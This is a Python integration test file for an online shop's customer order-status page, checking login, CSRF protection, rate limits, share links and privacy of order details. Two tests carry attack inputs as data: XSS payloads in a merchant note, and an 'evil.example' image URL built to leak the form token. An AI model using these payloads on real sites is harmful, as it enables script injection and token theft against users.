"""The customer's page: checkout, owner and public views, login, sharing, look-up, opt-in."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest
from sqlalchemy import update

from orderstatus.db.engine import Database
from orderstatus.db.models import LineItem, Order, PageMessage, Shop
from tests.conftest import ShopClient
from tests.factories import order_payload
from tests.integration.helpers import create_order, fulfil

CSRF = re.compile(r'name="csrf_token" value="([^"]+)"')


def csrf_of(html: str) -> str:
    match = CSRF.search(html)
    assert match, "the page has no form token"
    return match.group(1)


def path_of(order: dict[str, Any]) -> str:
    return "/orders/" + order["status_page_url"].rsplit("/", 1)[1]


@pytest.fixture
async def browser(api: ShopClient) -> AsyncIterator[httpx.AsyncClient]:
    """A customer's browser: its own cookies, no API key, reading English."""
    async with httpx.AsyncClient(
        transport=api.http._transport, base_url="https://testserver"
    ) as client:
        client.cookies.set("os_lang", "en", domain="testserver.local")
        yield client


async def login(browser: httpx.AsyncClient, path: str, number: str, email: str) -> httpx.Response:
    page = await browser.get(path)
    return await browser.post(
        f"{path}/login", data={"number": number, "email": email, "csrf_token": csrf_of(page.text)}
    )


@pytest.fixture
async def storefront(api: ShopClient, database: Database) -> None:
    """Shop "acme" with its demo storefront turned on."""
    async with database.write() as session:
        await session.execute(
            update(Shop).where(Shop.id == api.shop_id).values(storefront_enabled=True)
        )


@pytest.mark.usefixtures("storefront")
async def test_checkout_makes_this_browser_the_owner(
    api: ShopClient, browser: httpx.AsyncClient
) -> None:
    shop = await browser.get("/shop/acme/")
    assert shop.status_code == 200 and "Stoneware mug" in shop.text
    form = await browser.get("/shop/acme/checkout", params={"qty_mug": 2, "qty_socks": 1})
    assert form.status_code == 200
    placed = await browser.post(
        "/shop/acme/checkout",
        data={
            "csrf_token": csrf_of(form.text),
            "qty_mug": "2",
            "qty_socks": "1",
            "email": "ola@example.com",
            "first_name": "Ola",
            "last_name": "Nordmann",
            "address1": "Kirkegata 5",
            "zip": "0153",
            "city": "Oslo",
            "country_code": "NO",
            "payment": "card",
        },
    )
    assert placed.status_code == 303
    page = await browser.get(placed.headers["location"])
    assert page.status_code == 200
    assert "Thank you, Ola!" in page.text
    assert "Kirkegata 5" in page.text and "Visa •••• 4242" in page.text
    assert page.headers["cache-control"] == "no-store"
    again = await browser.get(placed.headers["location"])
    assert "Thank you, Ola!" not in again.text and "Kirkegata 5" in again.text
    listed = (await api.http.get("/api/v1/orders")).json()["orders"]
    assert [(i["title"], i["quantity"]) for i in listed[0]["line_items"]] == [
        ("Stoneware mug", 2),
        ("Hiking socks", 1),
    ]


@pytest.mark.usefixtures("storefront")
async def test_a_bad_checkout_form_says_what_is_wrong_and_creates_nothing(
    api: ShopClient, browser: httpx.AsyncClient
) -> None:
    form = await browser.get("/shop/acme/checkout", params={"qty_mug": 1})
    response = await browser.post(
        "/shop/acme/checkout",
        data={
            "csrf_token": csrf_of(form.text),
            "qty_mug": "1",
            "email": "not-an-email",
            "first_name": "",
            "address1": "x",
            "city": "Oslo",
            "country_code": "NO",
        },
    )
    assert response.status_code == 422
    assert 'id="e-email"' in response.text and 'id="e-first_name"' in response.text
    assert (await api.http.get("/api/v1/orders")).json()["orders"] == []


async def test_another_device_sees_the_public_view_and_a_prefilled_login(
    api: ShopClient, browser: httpx.AsyncClient
) -> None:
    order = await create_order(api.http)
    await fulfil(api.http, order, [(0, 1)], carrier="ups", tracking_number="1Z999AA10123456784")
    page = await browser.get(path_of(order))
    assert page.status_code == 200
    assert 'value="#1001"' in page.text
    html = without_random_parts(page.text, path_of(order))
    for private in ("Kari", "Nordmann", "kari@example.com", "Storgata", "4242", "1Z999AA1"):
        assert private not in html
    assert "Mug" in html and "UPS" in html and "On its way" in html
    assert "249" not in html  # no prices for the public


def without_random_parts(html: str, path: str) -> str:
    """The page without what is random in it (its token, form tokens, file hashes), whose
    letters and digits could spell anything."""
    html = html.replace(path.rsplit("/", 1)[1], "TOKEN")
    html = re.sub(r'name="csrf_token" value="[^"]*"', "", html)
    return re.sub(r"\.[0-9a-f]{12}\.", ".HASH.", html)


@pytest.mark.parametrize(
    ("number", "email"),
    [("#1001", "someone@example.com"), ("#1002", "kari@example.com"), ("", ""), ("#1001", "x")],
)
async def test_every_wrong_login_gets_the_same_answer(
    api: ShopClient, browser: httpx.AsyncClient, number: str, email: str
) -> None:
    order = await create_order(api.http)
    await create_order(api.http, email="other@example.com")
    response = await login(browser, path_of(order), number, email)
    assert response.status_code == 401
    assert "That order number and e-mail or phone don&#39;t match our records." in response.text
    assert "Storgata" not in response.text
    assert "os_owner" not in response.headers.get("set-cookie", "")


async def test_the_right_pair_shows_everything(api: ShopClient, browser: httpx.AsyncClient) -> None:
    order = await create_order(api.http)
    response = await login(browser, path_of(order), "1001", "KARI@example.com")
    assert response.status_code == 303
    cookie = response.headers["set-cookie"]
    assert "HttpOnly" in cookie and "SameSite=lax" in cookie and "Secure" in cookie
    assert f"Path={path_of(order)}" in cookie
    page = await browser.get(path_of(order))
    assert "Storgata 1" in page.text and "kari@example.com" in page.text
    assert "See all order details" not in page.text


async def test_login_failures_are_rate_limited_per_order(
    api: ShopClient, browser: httpx.AsyncClient
) -> None:
    order = await create_order(api.http)
    for _ in range(5):
        assert (
            await login(browser, path_of(order), "1001", "wrong@example.com")
        ).status_code == 401
    blocked = await login(browser, path_of(order), "1001", "kari@example.com")
    assert blocked.status_code == 429
    assert int(blocked.headers["retry-after"]) > 0
    assert "Too many tries" in blocked.text


async def test_a_form_without_its_token_is_refused(
    api: ShopClient, browser: httpx.AsyncClient
) -> None:
    order = await create_order(api.http)
    await browser.get(path_of(order))
    response = await browser.post(
        f"{path_of(order)}/login", data={"number": "1001", "email": "kari@example.com"}
    )
    assert response.status_code == 400
    assert "os_owner" not in response.headers.get("set-cookie", "")


async def test_sharing_shows_the_public_view_until_revoked(
    api: ShopClient, browser: httpx.AsyncClient
) -> None:
    order = await create_order(api.http)
    await login(browser, path_of(order), "1001", "kari@example.com")
    page = await browser.get(path_of(order))
    made = await browser.post(f"{path_of(order)}/share", data={"csrf_token": csrf_of(page.text)})
    assert made.status_code == 303
    page = await browser.get(path_of(order))
    share_url = re.search(r'href="https://status.example.test(/shared/[^"]+)"', page.text)
    assert share_url
    async with httpx.AsyncClient(
        transport=api.http._transport, base_url="https://testserver"
    ) as friend:
        shared = await friend.get(share_url.group(1))
        assert shared.status_code == 200
        assert "Mug" in shared.text
        assert "Kari" not in shared.text and "Storgata" not in shared.text
        assert "See all order details" not in shared.text
        page = await browser.get(path_of(order))
        await browser.post(
            f"{path_of(order)}/share/revoke", data={"csrf_token": csrf_of(page.text)}
        )
        gone = await friend.get(share_url.group(1))
        assert gone.status_code == 404
        unknown = await friend.get("/shared/never-existed")
        assert unknown.status_code == 404
        assert gone.text.replace(share_url.group(1), "") == unknown.text.replace(
            "/shared/never-existed", ""
        )


async def test_only_the_owner_can_share(api: ShopClient, browser: httpx.AsyncClient) -> None:
    order = await create_order(api.http)
    page = await browser.get(path_of(order))
    response = await browser.post(
        f"{path_of(order)}/share", data={"csrf_token": csrf_of(page.text)}
    )
    assert response.status_code == 403
    assert (await api.http.get(f"/api/v1/orders/{order['id']}")).status_code == 200


async def test_lookup_by_number_and_email(api: ShopClient, browser: httpx.AsyncClient) -> None:
    order = await create_order(api.http)
    form = await browser.get("/shop/acme/order-status")
    token = csrf_of(form.text)
    miss = await browser.post(
        "/shop/acme/order-status",
        data={"number": "1001", "email": "no@example.com", "csrf_token": token},
    )
    assert miss.status_code == 401
    assert "We couldn&#39;t find an order" in miss.text
    hit = await browser.post(
        "/shop/acme/order-status",
        data={"number": "#1001", "email": "kari@example.com", "csrf_token": token},
    )
    assert hit.status_code == 303 and hit.headers["location"] == path_of(order)
    assert "Storgata 1" in (await browser.get(path_of(order))).text


async def test_lookup_is_rate_limited(api: ShopClient, browser: httpx.AsyncClient) -> None:
    await create_order(api.http)
    token = csrf_of((await browser.get("/shop/acme/order-status")).text)
    codes = [
        (
            await browser.post(
                "/shop/acme/order-status",
                data={"number": "1001", "email": f"guess{i}@example.com", "csrf_token": token},
            )
        ).status_code
        for i in range(6)
    ]
    assert codes == [401] * 5 + [429]


async def test_a_phone_only_owner_can_opt_in_to_email(
    api: ShopClient, browser: httpx.AsyncClient
) -> None:
    order = await create_order(api.http, email=None, phone="+4741234567")
    public = await browser.get(path_of(order))
    assert "Get shipping updates by e-mail" not in public.text
    # A phone-only order cannot be claimed with an e-mail: the owner is the device that bought it.
    owner_cookie = api.http._transport.app.state.pages.signer.owner_value(order["id"])  # type: ignore[attr-defined]
    browser.cookies.set("os_owner", owner_cookie, domain="testserver.local", path=path_of(order))
    page = await browser.get(path_of(order))
    assert "Get shipping updates by e-mail" in page.text
    bad = await browser.post(
        f"{path_of(order)}/updates", data={"email": "nope", "csrf_token": csrf_of(page.text)}
    )
    assert bad.status_code == 422 and 'id="opt-in-error"' in bad.text
    good = await browser.post(
        f"{path_of(order)}/updates",
        data={"email": "Kari@Example.com", "csrf_token": csrf_of(page.text)},
    )
    assert good.status_code == 303
    stored = (await api.http.get(f"/api/v1/orders/{order['id']}")).json()
    assert stored["update_email"] == "kari@example.com"
    assert "Shipping updates go to kari@example.com" in (await browser.get(path_of(order))).text


async def test_the_owner_sees_phone_numbers_in_international_format(
    api: ShopClient, browser: httpx.AsyncClient
) -> None:
    address = order_payload()["shipping_address"] | {"phone": "91234567"}
    order = await create_order(api.http, phone="912 34 567", shipping_address=address)
    stored = (await api.http.get(f"/api/v1/orders/{order['id']}")).json()
    assert stored["phone"] == "+4791234567"  # the API keeps E.164
    owner_cookie = api.http._transport.app.state.pages.signer.owner_value(order["id"])  # type: ignore[attr-defined]
    browser.cookies.set("os_owner", owner_cookie, domain="testserver.local", path=path_of(order))
    page = await browser.get(path_of(order))
    assert page.text.count("+47 91 23 45 67") == 2  # the contact and the shipping address
    assert "+4791234567" not in page.text and "91234567" not in page.text


async def test_unknown_pages_are_plain_404s(browser: httpx.AsyncClient, api: ShopClient) -> None:
    for path in ("/orders/not-a-token", "/shop/nope/", "/nothing"):
        response = await browser.get(path)
        assert response.status_code == 404
        assert response.headers["content-type"].startswith("text/html")


async def test_the_page_follows_changes_without_serving_a_stale_copy(
    api: ShopClient, browser: httpx.AsyncClient
) -> None:
    order = await create_order(api.http)
    shipment = await fulfil(api.http, order, [(0, 1), (1, 1), (2, 1)], carrier="ups")
    assert "On its way" in (await browser.get(path_of(order))).text
    await api.http.post(
        f"/api/v1/fulfillments/{shipment['id']}/events",
        json={"status": "delivered", "occurred_at": "2026-11-20T10:00:00Z"},
    )
    page = (await browser.get(path_of(order))).text
    assert '<h2 id="headline">Delivered' in page


async def test_merchant_notes_cannot_run_script(
    api: ShopClient, browser: httpx.AsyncClient, database: Database
) -> None:
    order = await create_order(api.http)
    async with database.write() as session:
        session.add(
            PageMessage(
                shop_id=api.shop_id,
                placement="top",
                body_markdown=(
                    "**Holiday hours** <script>alert(1)</script> "
                    "<img src=x onerror=alert(1)> [x](javascript:alert(1))"
                ),
            )
        )
        await session.execute(update(Order).values(version=Order.version + 1))
    page = (await browser.get(path_of(order))).text
    assert "<strong>Holiday hours</strong>" in page
    assert (
        "<script>alert" not in page and "<img src=x" not in page and 'href="javascript' not in page
    )


async def test_the_language_follows_the_order_then_the_browser_and_the_switch(
    api: ShopClient, browser: httpx.AsyncClient
) -> None:
    english = await create_order(api.http, locale="en")
    norwegian = await create_order(api.http, locale="nb-NO")
    unset = await create_order(api.http, locale=None)
    browser.cookies.clear()
    assert (
        '<html lang="en">'
        in (await browser.get(path_of(english), headers={"Accept-Language": "nb"})).text
    )
    assert '<html lang="nb">' in (await browser.get(path_of(norwegian))).text
    assert (
        '<html lang="nb">'
        in (
            await browser.get(
                path_of(unset), headers={"Accept-Language": "nb-NO,nb;q=0.9,en;q=0.5"}
            )
        ).text
    )
    switched = await browser.get(path_of(english), params={"lang": "nb"})
    assert '<html lang="nb">' in switched.text
    assert '<html lang="nb">' in (await browser.get(path_of(english))).text  # remembered


async def test_order_data_cannot_plant_the_form_token_in_the_page(
    api: ShopClient, browser: httpx.AsyncClient, database: Database
) -> None:
    """Whatever an order carries, the page shows it as it is: the browser's form token
    goes into the forms and nowhere else (not into an image address of a third party)."""
    if not database.is_sqlite:
        pytest.skip("PostgreSQL text cannot hold NUL, which the old placeholder had")
    planted = "https://evil.example/pixel.png?t=\x00csrf\x00"
    order = await create_order(api.http)
    # The API refuses NUL now; write the old placeholder straight into the stored order.
    async with database.write() as session:
        await session.execute(
            update(LineItem)
            .where(LineItem.order_id == order["id"])
            .values(title="Mug \x00csrf\x00", image_url=planted)
        )
    page = await browser.get(path_of(order))
    assert page.status_code == 200
    token = browser.cookies["os_csrf"]
    images = re.findall(r'<img src="([^"]*)"', page.text)
    assert images and all(token not in src for src in images)
    assert page.text.count(token) == len(CSRF.findall(page.text)) > 0
    assert {value for value in CSRF.findall(page.text)} == {token}
    # Served again from the page cache, to a browser with a token of its own.
    async with httpx.AsyncClient(
        transport=api.http._transport, base_url="https://testserver"
    ) as other:
        again = await other.get(path_of(order))
        mine = other.cookies["os_csrf"]
        assert mine != token and token not in again.text
        assert again.text.count(mine) == len(CSRF.findall(again.text))


async def test_the_owner_can_sign_out_on_a_shared_device(
    api: ShopClient, browser: httpx.AsyncClient
) -> None:
    order = await create_order(api.http)
    path = path_of(order)
    assert (await login(browser, path, "1001", "kari@example.com")).status_code == 303
    page = await browser.get(path)
    assert "Storgata 1" in page.text and f'action="{path}/sign-out"' in page.text
    forged = await browser.post(f"{path}/sign-out", data={"csrf_token": "not-the-token"})
    assert forged.status_code == 400
    assert "Storgata 1" in (await browser.get(path)).text
    signed_out = await browser.post(f"{path}/sign-out", data={"csrf_token": csrf_of(page.text)})
    assert signed_out.status_code == 303 and signed_out.headers["location"] == path
    cleared = signed_out.headers["set-cookie"]
    assert "os_owner=" in cleared and f"Path={path}" in cleared and "Max-Age=0" in cleared
    after = await browser.get(path)
    assert after.status_code == 200
    assert "Storgata 1" not in after.text and "Kari" not in after.text
    assert "See all order details" in after.text
